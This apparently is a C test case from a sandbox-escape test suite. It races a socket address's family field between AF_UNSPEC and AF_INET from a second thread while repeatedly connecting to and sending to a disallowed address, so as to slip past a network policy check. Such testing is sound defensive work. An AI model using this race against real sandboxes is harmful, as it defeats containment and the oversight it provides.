// escape: flips the family between AF_UNSPEC, which dissolves an association and is always allowed, and IPv4
// group: argument races
// policy: network
// neighbour: connect_tcp --neighbour
// attempts: 20000
#include "escape.h"

static void attack(void) {
  static struct sockaddr_in address;
  static sa_family_t first = AF_UNSPEC, second = AF_INET;
  address = stranger();
  static struct flip flip = {&address.sin_family, &first, &second, sizeof first};
  thread(flip_for_ever, &flip);
  while (more()) {
    const int fd = udp(AF_INET);
    if (connect(fd, ADDRESS(address)) == 0) send(fd, "x", 1, 0);
    close(fd);
  }
}
